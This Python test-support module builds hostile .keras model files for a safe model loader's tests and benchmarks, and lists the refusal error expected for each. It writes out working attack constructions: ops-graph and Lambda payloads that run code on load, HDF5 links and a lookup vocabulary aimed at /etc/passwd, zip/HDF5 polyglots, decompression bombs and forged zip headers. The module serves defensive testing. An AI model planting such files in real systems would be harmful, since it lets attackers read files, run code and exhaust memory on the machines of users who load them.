"""Hostile ``.keras`` files, built from scratch with zipfile, json and h5py.

Shared by tests/test_model_file_safety.py and benchmarks/model_file_attacks.py. Every
builder takes a directory and returns the path of the file it wrote there; none is
kept as a binary fixture. :data:`ATTACKS` lists one builder per attack class with the
error it must be refused with.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

METADATA = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"})


# --- building blocks -------------------------------------------------------------------


def write_archive(
    path: Path,
    config: Any,
    weights: bytes,
    *,
    metadata: str = METADATA,
    extra: tuple[tuple[str, bytes], ...] = (),
    compress: bool = False,
) -> Path:
    """A zip archive laid out as Keras writes one (plus ``extra`` members)."""
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    raw_config = config if isinstance(config, bytes) else json.dumps(config).encode()
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("metadata.json", metadata)
        archive.writestr("config.json", raw_config)
        archive.writestr("model.weights.h5", weights)
        for name, data in extra:
            archive.writestr(name, data)
    return path


def h5_bytes(fill: Callable[[h5py.File], None], **kwargs: Any) -> bytes:
    """An HDF5 file built in memory by ``fill``."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w", **kwargs) as h5:
        fill(h5)
    return buffer.getvalue()


def parts(model_file: Path) -> tuple[dict[str, Any], bytes]:
    """The config (parsed) and the weights (bytes) of a real .keras file."""
    with zipfile.ZipFile(model_file) as archive:
        return json.loads(archive.read("config.json")), archive.read("model.weights.h5")


_SEED_BYTES: list[bytes] = []


def seed_model(directory: Path) -> Path:
    """The library's seed network as save_model writes it (saved once per process)."""
    path = directory / "seed-base.keras"
    if not path.exists():
        if not _SEED_BYTES:
            from lenet_mnist import build_lenet, save_model

            _SEED_BYTES.append(save_model(build_lenet("seed", seed=0), path).read_bytes())
        path.write_bytes(_SEED_BYTES[0])
    return path


def layer_named(config: dict[str, Any], name: str) -> dict[str, Any]:
    return next(layer for layer in config["config"]["layers"] if layer["name"] == name)


def tensor(layer: str, shape: list[int | None]) -> dict[str, Any]:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": shape, "dtype": "float32", "keras_history": [layer, 0, 0]},
    }


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": None}


def input_layer(name: str, shape: list[int | None]) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {
            "batch_shape": shape,
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": name,
            "optional": False,
        },
        "registered_name": None,
        "name": name,
        "inbound_nodes": [],
    }


def functional(
    layers: list[dict[str, Any]], inputs: str, outputs: str, name: str = "m"
) -> dict[str, Any]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "config": {
            "name": name,
            "trainable": True,
            "layers": layers,
            "input_layers": [[inputs, 0, 0]],
            "output_layers": [[outputs, 0, 0]],
        },
    }


def dense(name: str, units: int, source: str, source_shape: list[int | None]) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": units},
        "registered_name": None,
        "name": name,
        "inbound_nodes": [{"args": [tensor(source, source_shape)], "kwargs": {}}],
    }


def empty_weights() -> bytes:
    return h5_bytes(lambda h5: None)


def rewritten(directory: Path, name: str, edit: Callable[[dict[str, Any]], None]) -> Path:
    """The seed model with its config edited."""
    config, weights = parts(seed_model(directory))
    edit(config)
    return write_archive(directory / name, config, weights)


def with_weights(directory: Path, name: str, fill: Callable[[h5py.File], None]) -> Path:
    """The seed model with its weights file rebuilt: a copy, then ``fill`` edits it."""
    config, weights = parts(seed_model(directory))

    def copy_then_edit(h5: h5py.File) -> None:
        with h5py.File(io.BytesIO(weights), "r") as source:
            for key in source:
                source.copy(source[key], h5, name=key)
            for key, value in source.attrs.items():
                h5.attrs[key] = value
        fill(h5)

    return write_archive(directory / name, config, h5_bytes(copy_then_edit))


# --- 1. operation nodes ----------------------------------------------------------------


def op_node_payload(marker: Path, port: int) -> dict[str, Any]:
    """A graph of ``keras.src.ops.core.Switch`` nodes that call public Keras functions.

    With Keras 3.15.1's own ``load_model`` in safe mode this writes ``marker`` (an
    image gallery saved by matplotlib), changes floatx, epsilon and the image data
    format, seeds the global random generators, and asks ``get_file`` (which Keras
    itself blocks) to fetch from ``http://127.0.0.1:port``.
    """

    def switch(name: str, branch: dict[str, Any], *operands: Any) -> dict[str, Any]:
        return {
            "module": "keras.src.ops.core",
            "class_name": "Switch",
            "config": {"name": name},
            "registered_name": None,
            "name": name,
            "inbound_nodes": [{"args": [0, [branch], *operands], "kwargs": {}}],
        }

    image = {
        "class_name": "__numpy__",
        "config": {"value": [[[[0, 0, 0], [0, 0, 0]], [[0, 0, 0], [0, 0, 0]]]], "dtype": "float32"},
    }
    layers = [
        input_layer("x", [None, 4]),
        switch(
            "write",
            function("keras.visualization", "plot_image_gallery"),
            image,
            None,
            None,
            None,
            1,
            1,
            [0, 255],
            2,
            str(marker),
        ),
        switch("floatx", function("keras.config", "set_floatx"), "float16"),
        switch("epsilon", function("keras.config", "set_epsilon"), 0.5),
        switch("format", function("keras.config", "set_image_data_format"), "channels_first"),
        switch("seed", function("keras.utils", "set_random_seed"), 1234),
        switch(
            "fetch",
            function("keras.utils", "get_file"),
            "payload.bin",
            f"http://127.0.0.1:{port}/payload.bin",
        ),
        dense("d", 2, "x", [None, 4]),
    ]
    return functional(layers, "x", "d")


def make_op_node_graph(directory: Path, *, marker: Path | None = None, port: int = 9) -> Path:
    marker = marker or directory / "marker.png"
    return write_archive(directory / "switch.keras", op_node_payload(marker, port), empty_weights())


def make_op_node(directory: Path, module: str, class_name: str, config: dict[str, Any]) -> Path:
    layers = [
        input_layer("x", [None, 4]),
        {
            "module": module,
            "class_name": class_name,
            "config": config,
            "registered_name": None,
            "name": "op",
            "inbound_nodes": [{"args": [tensor("x", [None, 4])], "kwargs": {}}],
        },
    ]
    return write_archive(
        directory / f"op-{class_name}.keras", functional(layers, "x", "op"), empty_weights()
    )


def make_ones_op(directory: Path) -> Path:
    # ops.full((65536, 65536), 1.0): 16 GiB of float32 while the graph is rebuilt.
    return make_op_node(
        directory, "keras.src.ops.numpy", "Full", {"shape": [65536, 65536], "fill_value": 1.0}
    )


# --- 2. Lambda in any spelling, aliases ------------------------------------------------


def make_spelled(directory: Path, module: str, class_name: str) -> Path:
    def respell(config: dict[str, Any]) -> None:
        layer = layer_named(config, "flatten")
        layer["module"], layer["class_name"] = module, class_name
        layer["config"]["function"] = {
            "module": "builtins",
            "class_name": "function",
            "config": "print",
            "registered_name": "function",
        }

    return rewritten(directory, f"spelled-{class_name}.keras", respell)


def make_dotted_lambda(directory: Path) -> Path:
    return make_spelled(directory, "keras", "layers.Lambda")


# --- 3. polyglots ----------------------------------------------------------------------


def _legacy_h5_model() -> bytes:
    """An HDF5 file as Keras 2's whole-model format writes one (its config as an attribute)."""

    def fill(h5: h5py.File) -> None:
        h5.attrs["model_config"] = json.dumps(
            {"class_name": "Sequential", "config": {"name": "evil", "layers": []}}
        )
        h5.attrs["keras_version"] = "2.15.0"
        h5.create_group("model_weights")

    return h5_bytes(fill)


def make_polyglot(directory: Path, suffix: str) -> Path:
    """HDF5 from byte 0 with a whole .keras zip appended: both readers accept it."""
    path = directory / f"polyglot{suffix}"
    path.write_bytes(_legacy_h5_model() + seed_model(directory).read_bytes())
    return path


def make_polyglot_superblock(directory: Path) -> Path:
    """A zip from byte 0 whose bytes also hold an HDF5 superblock where HDF5 looks (4096).

    The weights member carries a 512-byte user block; config.json is padded so its
    superblock lands at a power of two (8192 for the seed model), where an HDF5 reader
    looks for one.
    """
    config, weights = parts(seed_model(directory))
    with h5py.File(io.BytesIO(weights), "r") as source:
        padded = h5_bytes(
            lambda h5: [source.copy(source[key], h5, name=key) for key in source],
            userblock_size=512,
        )
    raw = json.dumps(config).encode()
    header = 30
    metadata = METADATA.encode()
    # Offsets in a stored zip: each member is a 30-byte header, its name, its data.
    start = header + len("metadata.json") + len(metadata)
    start += header + len("config.json")
    weights_data = start + len(raw) + header + len("model.weights.h5")
    target = 1 << (weights_data + 512 - 1).bit_length()
    raw += b" " * (target - 512 - weights_data)
    return write_archive(directory / "polyglot-superblock.keras", raw, padded)


# --- 4. archive structure --------------------------------------------------------------


def make_extra_member(directory: Path) -> Path:
    config, weights = parts(seed_model(directory))
    return write_archive(
        directory / "extra.keras", config, weights, extra=(("assets/notes.txt", b"x"),)
    )


def make_duplicate_member(directory: Path) -> Path:
    config, weights = parts(seed_model(directory))
    path = directory / "duplicate.keras"
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("metadata.json", METADATA)
            archive.writestr("config.json", json.dumps(config))
            archive.writestr("config.json", json.dumps({"class_name": "Lambda"}))
            archive.writestr("model.weights.h5", weights)
    return path


def make_directory_member(directory: Path) -> Path:
    config, weights = parts(seed_model(directory))
    path = write_archive(directory / "dir-member.keras", config, weights)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(zipfile.ZipInfo("assets/"), b"")
    return path


def make_encrypted_member(directory: Path) -> Path:
    """config.json flagged as encrypted (bit 0), in both of its headers."""
    config, weights = parts(seed_model(directory))
    path = write_archive(directory / "encrypted.keras", config, weights)
    data = bytearray(path.read_bytes())
    name = b"config.json"
    local = data.index(name) - 30  # the first copy of the name: its local header
    central = data.rindex(name) - 46  # the last: its central directory entry
    assert data[local : local + 4] == b"PK\x03\x04"
    assert data[central : central + 4] == b"PK\x01\x02"
    struct.pack_into("<H", data, local + 6, 0x1)
    struct.pack_into("<H", data, central + 8, 0x1)
    path.write_bytes(bytes(data))
    return path


def _patch_central_size(path: Path, member: str, size: int) -> None:
    """Rewrite the sizes (stored, so both) a member's central directory entry declares."""
    data = bytearray(path.read_bytes())
    position = data.index(b"PK\x01\x02")
    while True:
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        name = bytes(data[position + 46 : position + 46 + name_length]).decode()
        if name == member:
            struct.pack_into("<LL", data, position + 20, size, size)
            break
        position += 46 + name_length + extra_length + comment_length
    path.write_bytes(bytes(data))


def make_huge_declared_size(directory: Path) -> Path:
    config, weights = parts(seed_model(directory))
    path = write_archive(directory / "huge-declared.keras", config, weights)
    _patch_central_size(path, "model.weights.h5", 0xFFFF_FFF0)
    return path


def _deflate_zeros(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` zero bytes (a multiple of 16 MiB), and its CRC.

    16 MiB of zeros is compressed once and its blocks repeated: a block of zeros may
    refer back into the zeros before it whichever copy that is, so the repeats are a
    valid stream; an empty final block ends it.
    """
    piece = bytes(16 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    blocks = compressor.compress(piece) + compressor.flush(zlib.Z_SYNC_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(size // len(piece)):
        crc = zlib.crc32(piece, crc)
    return blocks * (size // len(piece)) + final, crc


def _raw_zip(
    path: Path, members: list[tuple[str, bytes, int, int, int]], *, zip64: bool = False
) -> Path:
    """A zip written byte by byte: (name, data, method, crc, declared size) per member.

    ``zip64``: end the archive with zip64 records, as zipfile does past 65,535 members.
    """
    out = bytearray()
    central = bytearray()
    for name, data, method, crc, size in members:
        offset = len(out)
        encoded = name.encode()
        out += struct.pack(
            "<4sHHHHHLLLHH",
            *(b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0),
        )
        out += encoded + data
        central += struct.pack(
            "<4sHHHHHHLLLHHHHHLL",
            *(b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded)),
            *(0, 0, 0, 0, 0, offset),
        )
        central += encoded
    count = len(members)
    tail = b""
    if zip64:
        tail = struct.pack(
            "<4sQHHLLQQQQ",
            *(b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(central), len(out)),
        )
        tail += struct.pack("<4sLQL", b"PK\x06\x07", 0, len(out) + len(central), 1)
        count = 0xFFFF
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    path.write_bytes(bytes(out + central + tail + end))
    return path


def _stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return name, data, 0, zlib.crc32(data), len(data)


def make_lying_header(directory: Path) -> Path:
    """A weights member that inflates to 1 GiB but whose headers say 64 KiB."""
    config, _ = parts(seed_model(directory))
    stream, crc = _deflate_zeros(1 << 30)
    return _raw_zip(
        directory / "lying-header.keras",
        [
            _stored("metadata.json", METADATA.encode()),
            _stored("config.json", json.dumps(config).encode()),
            ("model.weights.h5", stream, 8, crc, 64 * 1024),
        ],
    )


def make_compressed_weights_bomb(directory: Path, size: int = 1 << 30) -> Path:
    """A weights member of ``size`` zeros (1 GiB: 1 MB deflated), honestly declared."""
    config, _ = parts(seed_model(directory))
    stream, crc = _deflate_zeros(size)
    return _raw_zip(
        directory / f"weights-bomb-{size}.keras",
        [
            _stored("metadata.json", METADATA.encode()),
            _stored("config.json", json.dumps(config).encode()),
            ("model.weights.h5", stream, 8, crc, size),
        ],
    )


def make_many_members(directory: Path, count: int = 100_000) -> Path:
    members = [_stored("metadata.json", METADATA.encode())]
    members += [_stored(f"m{i}", b"") for i in range(count)]
    return _raw_zip(directory / "many-members.keras", members, zip64=True)


# --- 5. allocations the config declares -------------------------------------------------


def make_embedding(directory: Path) -> Path:
    layers = [
        input_layer("x", [None, 4]),
        {
            "module": "keras.layers",
            "class_name": "Embedding",
            "config": {"name": "e", "input_dim": 1 << 30, "output_dim": 64},
            "registered_name": None,
            "name": "e",
            "build_config": {"input_shape": [None, 4]},
            "inbound_nodes": [{"args": [tensor("x", [None, 4])], "kwargs": {}}],
        },
    ]
    return write_archive(
        directory / "embedding.keras", functional(layers, "x", "e"), empty_weights()
    )


def make_dense_over_budget(directory: Path) -> Path:
    """An allowed layer declaring 1600 x 2**20 = 1.7 G parameters (6.25 GiB)."""

    def widen(config: dict[str, Any]) -> None:
        layer_named(config, "fc1")["config"]["units"] = 1 << 20

    return rewritten(directory, "dense-budget.keras", widen)


def make_lenet_classes(directory: Path) -> Path:
    """The subclassed LeNet with 2**16 classes would be fine; 10**9 is refused by range."""
    config = {
        "module": "lenet_mnist.lenet",
        "class_name": "LeNet",
        "config": {"name": "lenet", "trainable": True, "num_classes": 10**9},
        "registered_name": "lenet_mnist>LeNet",
        "build_config": {"input_shape": [None, 28, 28, 1]},
    }
    return write_archive(directory / "lenet-classes.keras", config, empty_weights())


def make_build_config_mismatch(directory: Path) -> Path:
    """fc1 declared as built for 2**30 inputs (Keras builds from build_config first)."""

    def rebuild(config: dict[str, Any]) -> None:
        layer_named(config, "fc1")["build_config"] = {"input_shape": [None, 1 << 30]}

    return rewritten(directory, "build-config.keras", rebuild)


# --- 6. the weights file ---------------------------------------------------------------


def _kernel_path(h5: h5py.File) -> str:
    return next(
        f"{name}/vars"
        for name in (f"layers/{key}" for key in h5["layers"])
        if h5[f"{name}/vars"].attrs["name"] == "fc1"
    )


def make_h5_huge_shape(directory: Path) -> Path:
    """fc1's kernel declared as 2**20 x 2**20 float32 (4 TiB), with no data written."""

    def huge(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        del group["0"]
        group.create_dataset("0", shape=(1 << 20, 1 << 20), dtype="float32")

    return with_weights(directory, "h5-huge-shape.keras", huge)


def make_h5_wrong_shape(directory: Path) -> Path:
    """fc1's kernel one row too big, with all its data."""

    def wrong(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        del group["0"]
        group["0"] = np.zeros((1601, 64), np.float32)

    return with_weights(directory, "h5-wrong-shape.keras", wrong)


def make_h5_gzip_bomb(directory: Path) -> Path:
    """fc1's kernel as a gzip-chunked 32768 x 32768 float32 dataset (4 GiB), ~KB stored."""

    def bomb(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        del group["0"]
        dataset = group.create_dataset(
            "0", shape=(32768, 32768), dtype="float32", chunks=(1024, 1024), compression="gzip"
        )
        dataset[:1024, :1024] = 1.0

    return with_weights(directory, "h5-gzip-bomb.keras", bomb)


def make_h5_external_link(directory: Path, target: str = "/etc/passwd") -> Path:
    def link(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        del group["0"]
        group["0"] = h5py.ExternalLink(target, "/data")

    return with_weights(directory, "h5-external-link.keras", link)


def make_h5_soft_link(directory: Path) -> Path:
    def link(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        path = f"/{_kernel_path(h5)}/1"
        del group["0"]
        group["0"] = h5py.SoftLink(path)

    return with_weights(directory, "h5-soft-link.keras", link)


def make_h5_external_storage(directory: Path, target: Path | None = None) -> Path:
    target = target or directory / "outside.bin"
    target.write_bytes(bytes(1600 * 64 * 4))

    def external(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        del group["0"]
        group.create_dataset(
            "0", shape=(1600, 64), dtype="float32", external=[(str(target), 0, 1600 * 64 * 4)]
        )

    return with_weights(directory, "h5-external-storage.keras", external)


def make_h5_virtual(directory: Path) -> Path:
    source = directory / "outside.h5"
    with h5py.File(source, "w") as h5:
        h5["data"] = np.zeros((1600, 64), np.float32)

    def virtual(h5: h5py.File) -> None:
        group = h5[_kernel_path(h5)]
        del group["0"]
        layout = h5py.VirtualLayout(shape=(1600, 64), dtype="float32")
        layout[:] = h5py.VirtualSource(str(source), "data", shape=(1600, 64))
        group.create_virtual_dataset("0", layout)

    return with_weights(directory, "h5-virtual.keras", virtual)


def make_h5_extra_dataset(directory: Path) -> Path:
    def extra(h5: h5py.File) -> None:
        h5[f"{_kernel_path(h5)}/2"] = np.zeros((1000, 1000), np.float32)

    return with_weights(directory, "h5-extra-variable.keras", extra)


# --- 7. JSON and graph size ------------------------------------------------------------


def make_deep_json(directory: Path, depth: int = 100_000) -> Path:
    config = b"[" * depth + b"]" * depth
    return write_archive(directory / "deep.keras", config, empty_weights())


def make_wide_json(directory: Path, item: bytes = b"{}") -> Path:
    """config.json of nearly 2 MiB (the default limit) of one tiny value repeated."""
    count = (2 * 1024 * 1024 - 2) // (len(item) + 1)
    config = b"[" + b",".join([item] * count) + b"]"
    return write_archive(directory / "wide.keras", config, empty_weights())


def make_stuffed_options(directory: Path) -> Path:
    """The seed model with its initializers' options stuffed to nearly 2 MiB of zeros.

    Every list is within the per-option limit (1,024 items): what a config can hold that
    passes each local check, all of which must still be looked at.
    """
    config, weights = parts(seed_model(directory))
    size = len(json.dumps(config))
    stuffed = 0
    for layer in config["config"]["layers"]:
        for key in ("kernel_initializer", "bias_initializer"):
            if key in layer["config"]:
                options = layer["config"][key]["config"]
                for index in range(60):
                    if size + stuffed > 2 * 1024 * 1024 - 3000:
                        break
                    options[f"x{index}"] = [0] * 1024
                    stuffed += 3 * 1024 + 8
    return write_archive(directory / "stuffed.keras", config, weights)


def make_layer_chain(directory: Path, length: int = 1000) -> Path:
    layers = [input_layer("x", [None, 1])]
    previous = "x"
    for index in range(length):
        layers.append(dense(f"d{index}", 1, previous, [None, 1]))
        previous = f"d{index}"
    return write_archive(
        directory / f"chain-{length}.keras", functional(layers, "x", previous), empty_weights()
    )


# --- 8. modules that need other libraries ----------------------------------------------


def make_torch_module(directory: Path) -> Path:
    layers = [
        input_layer("x", [None, 4]),
        {
            "module": "keras.layers",
            "class_name": "TorchModuleWrapper",
            "config": {
                "name": "t",
                "module": {"module": "torch.nn", "class_name": "Linear", "config": {}},
            },
            "registered_name": None,
            "name": "t",
            "inbound_nodes": [{"args": [tensor("x", [None, 4])], "kwargs": {}}],
        },
    ]
    return write_archive(directory / "torch.keras", functional(layers, "x", "t"), empty_weights())


# --- 9. the published cases ------------------------------------------------------------


def make_get_file(directory: Path, port: int | None = None) -> Path:
    """``keras.utils.get_file`` as an initializer; with ``port``, also a call's ``origin``."""

    def fetch(config: dict[str, Any]) -> None:
        fc1 = layer_named(config, "fc1")
        fc1["config"]["kernel_initializer"] = function("keras.utils", "get_file")
        if port is not None:
            fc1["inbound_nodes"][0]["kwargs"] = {"origin": f"http://127.0.0.1:{port}/x"}

    return rewritten(directory, "get-file.keras", fetch)


def make_enable_unsafe(directory: Path) -> Path:
    def unsafe(config: dict[str, Any]) -> None:
        layer_named(config, "conv1")["config"]["kernel_initializer"] = function(
            "keras.config", "enable_unsafe_deserialization"
        )

    return rewritten(directory, "enable-unsafe.keras", unsafe)


def make_lookup_vocabulary(directory: Path, vocabulary: str = "/etc/passwd") -> Path:
    layers = [
        input_layer("x", [None, 1]),
        {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"name": "lookup", "vocabulary": vocabulary, "output_mode": "int"},
            "registered_name": None,
            "name": "lookup",
            "inbound_nodes": [{"args": [tensor("x", [None, 1])], "kwargs": {}}],
        },
    ]
    return write_archive(
        directory / "lookup.keras", functional(layers, "x", "lookup"), empty_weights()
    )


def make_tfsm_layer(directory: Path) -> Path:
    layers = [
        input_layer("x", [None, 4]),
        {
            "module": "keras.layers",
            "class_name": "TFSMLayer",
            "config": {
                "name": "sm",
                "filepath": str(directory / "saved"),
                "call_endpoint": "serve",
            },
            "registered_name": None,
            "name": "sm",
            "inbound_nodes": [{"args": [tensor("x", [None, 4])], "kwargs": {}}],
        },
    ]
    return write_archive(directory / "tfsm.keras", functional(layers, "x", "sm"), empty_weights())


def make_lambda_bytecode(directory: Path, marker_variable: str = "LENET_MNIST_TEST_MARKER") -> Path:
    """A Lambda layer as Keras writes it: the bytecode of a function that touches a marker."""
    import keras

    payload = lambda x: (  # noqa: E731
        __import__("pathlib").Path(__import__("os").environ[marker_variable]).touch(),
        x,
    )[1]
    previous = os.environ.get(marker_variable)
    os.environ[marker_variable] = str(directory / "lambda-ran-while-saving")
    try:
        inputs = keras.Input((4,))
        model = keras.Model(inputs, keras.layers.Lambda(payload, name="payload")(inputs))
        path = directory / "lambda.keras"
        model.save(path)
    finally:
        if previous is None:
            del os.environ[marker_variable]
        else:
            os.environ[marker_variable] = previous
    return path


# --- 10. not files ---------------------------------------------------------------------


def make_device(directory: Path) -> Path:
    path = directory / "zero.keras"
    path.symlink_to("/dev/zero")
    return path


def make_fifo(directory: Path) -> Path:
    path = directory / "fifo.keras"
    os.mkfifo(path)
    return path


def make_huge_file(directory: Path) -> Path:
    path = directory / "huge.keras"
    with path.open("wb") as file:
        file.truncate(1 << 30)  # sparse: 1 GiB declared, nothing on disk
    return path


# --- the table -------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    """One attack class: how to build its file, and how it must be refused."""

    build: Callable[[Path], Path]
    error: str  # "UnsafeModelError" or "ModelFileError" (the latter includes the former)
    match: str
    heavy: bool = False  # costs memory if not refused early: measured in a subprocess


ATTACKS: dict[str, Attack] = {
    "op-node graph (Switch)": Attack(
        make_op_node_graph,
        "UnsafeModelError",
        r"'Switch' from module 'keras\.src\.ops\.core' at config\.layers\[1\]",
    ),
    "ones-op allocation (ops.Full)": Attack(
        make_ones_op, "UnsafeModelError", r"'Full' from module 'keras\.src\.ops\.numpy'", heavy=True
    ),
    "layers.Lambda spelling": Attack(
        make_dotted_lambda, "UnsafeModelError", r"a Lambda layer \('layers\.Lambda'"
    ),
    "zip+HDF5 polyglot named .h5": Attack(
        lambda d: make_polyglot(d, ".h5"), "ModelFileError", r"must end in \.keras"
    ),
    "zip+HDF5 polyglot named .keras": Attack(
        lambda d: make_polyglot(d, ".keras"),
        "ModelFileError",
        r"not a \.keras model file \(File is not a zip file\)",
    ),
    "HDF5 superblock inside a .keras zip": Attack(
        make_polyglot_superblock, "UnsafeModelError", r"polyglot.*byte 8192"
    ),
    "extra member": Attack(make_extra_member, "ModelFileError", r"exactly the members"),
    "duplicate member": Attack(make_duplicate_member, "ModelFileError", r"exactly the members"),
    "directory member": Attack(make_directory_member, "ModelFileError", r"exactly the members"),
    "encrypted member": Attack(make_encrypted_member, "ModelFileError", r"encrypted"),
    "huge declared member size": Attack(
        make_huge_declared_size, "ModelFileError", r"declares more than the limit"
    ),
    "lying zip header (1 GiB inflated)": Attack(
        make_lying_header, "ModelFileError", r"CRC|inflates", heavy=True
    ),
    "100k archive members": Attack(
        make_many_members, "ModelFileError", r"100001 members", heavy=True
    ),
    "Embedding allocation": Attack(
        make_embedding, "UnsafeModelError", r"'Embedding' from module 'keras\.layers'", heavy=True
    ),
    "Dense over the parameter budget": Attack(
        make_dense_over_budget, "ModelFileError", r"more parameters than the limit", heavy=True
    ),
    "LeNet with 10**9 classes": Attack(
        make_lenet_classes, "ModelFileError", r"num_classes: expected an integer", heavy=True
    ),
    "build_config larger than the graph": Attack(
        make_build_config_mismatch, "ModelFileError", r"Keras would build the layer for", heavy=True
    ),
    "compressed-weights bomb (1 GiB)": Attack(
        make_compressed_weights_bomb, "ModelFileError", r"would inflate more than 32:1", heavy=True
    ),
    "compressed-weights bomb within the size limit (16 MiB)": Attack(
        lambda d: make_compressed_weights_bomb(d, 16 << 20),
        "ModelFileError",
        r"would inflate more than 32:1 .* got 16777216 bytes from",
        heavy=True,
    ),
    "HDF5 gzip bomb dataset (4 GiB)": Attack(
        make_h5_gzip_bomb, "UnsafeModelError", r"filtered", heavy=True
    ),
    "HDF5 dataset declaring a huge shape": Attack(
        make_h5_huge_shape, "ModelFileError", r"not all in the file", heavy=True
    ),
    "HDF5 dataset of the wrong shape": Attack(
        make_h5_wrong_shape, "ModelFileError", r"must hold variables"
    ),
    "HDF5 extra variable": Attack(make_h5_extra_dataset, "ModelFileError", r"must hold variables"),
    "HDF5 external link": Attack(make_h5_external_link, "UnsafeModelError", r"ExternalLink"),
    "HDF5 soft link": Attack(make_h5_soft_link, "UnsafeModelError", r"SoftLink"),
    "HDF5 external storage": Attack(
        make_h5_external_storage, "UnsafeModelError", r"external storage"
    ),
    "HDF5 virtual dataset": Attack(make_h5_virtual, "UnsafeModelError", r"virtual"),
    "deeply nested JSON": Attack(
        make_deep_json, "ModelFileError", r"deeper than the limit of 64", heavy=True
    ),
    "2 MiB config.json of 700k empty objects": Attack(
        make_wide_json, "ModelFileError", r"expected a model record, got list", heavy=True
    ),
    "initializer options stuffed with 1.4 MB of lists": Attack(
        make_stuffed_options,
        "UnsafeModelError",
        r"the option 'x0' of GlorotUniform at config\.layers\[1\]\.config\.kernel_initializer",
        heavy=True,
    ),
    "1,000-layer chain": Attack(
        make_layer_chain, "ModelFileError", r"more layers than the limit of 256", heavy=True
    ),
    "module needing torch": Attack(
        make_torch_module, "UnsafeModelError", r"'TorchModuleWrapper' from module 'keras\.layers'"
    ),
    "get_file": Attack(make_get_file, "UnsafeModelError", r"get_file"),
    "enable_unsafe_deserialization": Attack(
        make_enable_unsafe, "UnsafeModelError", r"enable_unsafe_deserialization"
    ),
    "lookup-layer vocabulary path": Attack(
        make_lookup_vocabulary, "UnsafeModelError", r"'StringLookup'"
    ),
    "TFSMLayer": Attack(make_tfsm_layer, "UnsafeModelError", r"'TFSMLayer'"),
    "Lambda bytecode": Attack(make_lambda_bytecode, "UnsafeModelError", r"a Lambda layer"),
    "device (/dev/zero)": Attack(make_device, "ModelFileError", r"not a regular file", heavy=True),
    "FIFO": Attack(make_fifo, "ModelFileError", r"not a regular file"),
    "1 GiB file": Attack(make_huge_file, "ModelFileError", r"larger than the limit", heavy=True),
}


# --- measuring a refusal ---------------------------------------------------------------

MEASURE_SCRIPT = textwrap.dedent(
    """
    import json, os, re, sys, time
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import h5py, keras, numpy, tensorflow
    import lenet_mnist as lm
    import lenet_mnist.models.saving

    def status(key):
        with open("/proc/self/status") as file:
            return int(re.search(key + r":\\s+(\\d+) kB", file.read()).group(1)) * 1024

    baseline = status("VmRSS")
    with open("/proc/self/clear_refs", "w") as file:
        file.write("5")  # the peak (VmHWM) starts again from the current size
    started = time.perf_counter()
    try:
        lm.load_model(sys.argv[1], **json.loads(sys.argv[2]))
        outcome = ["loaded", ""]
    except Exception as error:
        outcome = [type(error).__name__, str(error)]
    seconds = time.perf_counter() - started
    print(json.dumps({"outcome": outcome, "seconds": seconds,
                      "peak_above_baseline": status("VmHWM") - baseline}))
    """
)


def measure_in_fresh_process(path: Path, **limits: int) -> dict[str, Any]:
    """Load ``path`` in a new interpreter that has imported TensorFlow and lenet_mnist.

    Returns the outcome (error class and message, or "loaded"), the seconds the load
    took and the peak resident memory above the resident size after the imports
    (Linux's VmHWM, reset just before the load), in bytes.
    """
    done = subprocess.run(
        [sys.executable, "-c", MEASURE_SCRIPT, str(path), json.dumps(limits)],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    if done.returncode != 0:
        raise RuntimeError(done.stderr[-2000:])
    result: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
    return result
